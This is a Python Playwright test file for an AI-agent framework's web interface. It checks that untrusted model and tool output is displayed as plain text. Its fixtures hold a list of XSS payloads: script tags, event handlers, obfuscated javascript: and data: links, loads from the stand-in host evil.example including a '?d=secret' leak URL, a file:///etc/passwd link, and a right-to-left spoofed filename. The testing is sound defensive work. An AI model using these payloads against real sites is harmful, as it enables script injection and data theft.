"""Output of models and tools is not trusted: none of it runs or makes a request to another host."""

from __future__ import annotations

import pytest
from playwright.async_api import Page, expect
from server.teams import Office, planner

from browser.conftest import OpenServer, Visit
from browser.judging import check_accessible
from browser.serving import Served
from leadhand import FailureClass, Source, ToolError, ToolReturn, tool
from leadhand.testing.scripted_model import ScriptedModel, says

EVIL = "https://evil.example"
HOSTILE = f"""# <script>window.owned = 1</script>

<script src="{EVIL}/x.js"></script>
<img src="{EVIL}/pixel.png" onerror="window.owned = 2">
![a picture]({EVIL}/leak.png?d=secret) ![another](javascript:window.owned=3)
[plain](javascript:window.owned=4) [coded](&#106;avascript:window.owned=5) [split](java\tscript:window.owned=6)
[data](data:text/html,<script>window.owned=7</script>) [cased](JaVaScRiPt:window.owned=8) <javascript:window.owned=9>
[far]({EVIL}/page) <{EVIL}/auto> [file](file:///etc/passwd) [relative](/api/session) [vb](vbscript:msgbox)
<iframe src="{EVIL}"></iframe><object data="{EVIL}"></object><style>@import "{EVIL}/style.css";</style>
<a href="javascript:window.owned=10" onmouseover="window.owned=11">over</a>
<svg onload="window.owned=12"></svg><form action="{EVIL}"><button>send</button></form>

| a | b |
|---|---|
| <img src=x onerror="window.owned=13"> | [cell](javascript:window.owned=14) |

| c |
|---|
| ![x]({EVIL}/cell.png) |

```html
<script>window.owned = 15</script>
```

- <details open ontoggle="window.owned=16">item</details>
> <video src="{EVIL}/v.mp4" autoplay onerror="window.owned=17"></video>

[ref]: javascript:window.owned=18
[ref] `<b onclick=1>` **<i>** ~~<u>~~ &lt;script&gt;window.owned=19&lt;/script&gt; \u202eright to left
"""
FOREIGN = "script, img, iframe, object, embed, style, svg [onload], form[action], video, audio, link, base, meta"
ATTRIBUTES = """() => [...document.querySelectorAll("main *")]
  .flatMap(one => [...one.attributes]).map(each => each.name).filter(name => name.startsWith("on"))"""

LINKS = "links => links.map(link => [link.getAttribute('href') ?? '', link.getAttribute('rel') ?? ''])"


@pytest.fixture
def hostile_tools(office: Office) -> list[object]:
    """Tools whose every text is an attack."""

    @tool
    async def measure(place: str) -> ToolReturn:
        """Measure the noise at a place. <img src=x onerror="window.owned=20">"""
        if place == "Oslo":
            raise ToolError(HOSTILE, type="<script>", class_=FailureClass.UNAVAILABLE)
        sources = (
            Source(title="<img src=x onerror='window.owned=21'>", url="javascript:window.owned=22"),
            Source(title=HOSTILE[:200], url=f"{EVIL}/source"),
        )
        return ToolReturn(summary=HOSTILE, raw={"<script>": HOSTILE}, sources=sources)

    return [measure, office.pay]


async def check_harmless(page: Page) -> None:
    """Raise AssertionError if something ran, or if an element, attribute or link could run something."""
    assert await page.evaluate("window.owned") is None
    assert await page.locator("main").locator(FOREIGN).count() == 0
    assert await page.evaluate(ATTRIBUTES) == []
    for href, rel in await page.locator("main a").evaluate_all(LINKS):
        assert href.startswith(("/runs", "/tools", "/approvals", "/api/runs/", "https://", "#")), href
        if href.startswith("https://"):
            assert {"noopener", "noreferrer", "nofollow"} <= set(rel.split())


async def test_a_hostile_answer_is_text(serve: OpenServer, visit: Visit, hostile_tools: list[object]) -> None:
    models = ScriptedModel(plan=planner, compose=says(HOSTILE), lenient=True)
    served: Served = await serve(models=models, tools=hostile_tools)
    run_id = await served.started("measure Paris, measure Oslo")
    await served.finished(run_id)
    page = await (await visit(served.url)).open(f"/runs/{run_id}")
    answer = page.get_by_role("article", name="Answer")
    await expect(answer).to_contain_text("<script>window.owned = 1</script>")
    await expect(answer.get_by_role("link", name="far").first).to_have_attribute("href", f"{EVIL}/page")
    for text in ("plain", "coded", "split", "data", "cased", "cell"):
        await expect(answer.get_by_role("link", name=text, exact=True)).to_have_count(0)
    await check_harmless(page)
    await check_accessible(page)

    for place in ("?worker=wo-001.0", "?worker=wo-001.1", "?tab=order", "?seq=1", "?filter=owned"):
        await page.goto(f"{served.url}/runs/{run_id}{place}")
        await expect(page.get_by_role("grid", name="Events").get_by_role("row").first).to_be_visible()
        await check_harmless(page)
    await page.goto(f"{served.url}/tools/measure")
    await expect(page.get_by_role("heading", name="Run tool", exact=True)).to_be_visible()
    await check_harmless(page)


@pytest.mark.slow
async def test_a_hostile_approval_shows_exactly_what_would_be_sent(serve: OpenServer, visit: Visit) -> None:
    from leadhand.testing.scripted_model import plans, subtask

    sent = '<img src=x onerror="window.owned=1">\u202egnp.exe \u200bAnn'
    plan = plans(subtask("<script>window.owned=2</script>", "pay", to=sent))
    served = await serve(models=ScriptedModel(plan=lambda _: plan, lenient=True))
    run_id = await served.started("<script>window.owned=3</script> pay")
    await served.open_approvals(run_id)
    visitor = await visit(served.url)
    for path in ("/approvals", f"/runs/{run_id}", "/runs"):
        page = await visitor.open(path)
        await expect(page.get_by_text("<script>window.owned=3</script> pay").first).to_be_visible()
        if path != "/runs":
            shown = await page.get_by_label("to, as it would be sent").inner_text()
            assert shown.startswith('<img src=x onerror="window.owned=1">')
            assert "\u202e" not in shown  # characters that change the direction of writing are escaped
        await check_harmless(page)
